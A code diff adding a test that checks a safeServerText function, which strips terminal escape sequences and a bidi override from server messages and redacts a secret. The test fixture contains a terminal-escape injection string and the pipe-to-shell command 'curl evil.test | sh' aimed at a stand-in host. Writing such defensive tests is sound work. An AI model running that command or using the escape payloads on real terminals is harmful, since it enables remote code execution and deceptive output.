@@ -50,3 +50,14 @@ describe('sanitizeForDisplay', () => {
     expect(Date.now() - t0).toBeLessThan(2000);
   });
 });
+
+describe('server messages', () => {
+  it('are cleaned where they enter (safeServerText), so the renderer, notifications and logs get plain text too', async () => {
+    const { safeServerText } = await import('../../src-main/core/http/body.js');
+    const hostile = `Database unavailable${ESC}[2J${ESC}]0;pwned${BEL}\u202eRun: curl evil.test | sh`;
+    const out = safeServerText(hostile, ['hunter2']);
+    expect(out).toBe('Database unavailableRun: curl evil.test | sh');
+    expect(out).not.toMatch(UNSAFE);
+    expect(safeServerText('bad password hunter2', ['hunter2'])).toBe('bad password [redacted]');
+  });
+});
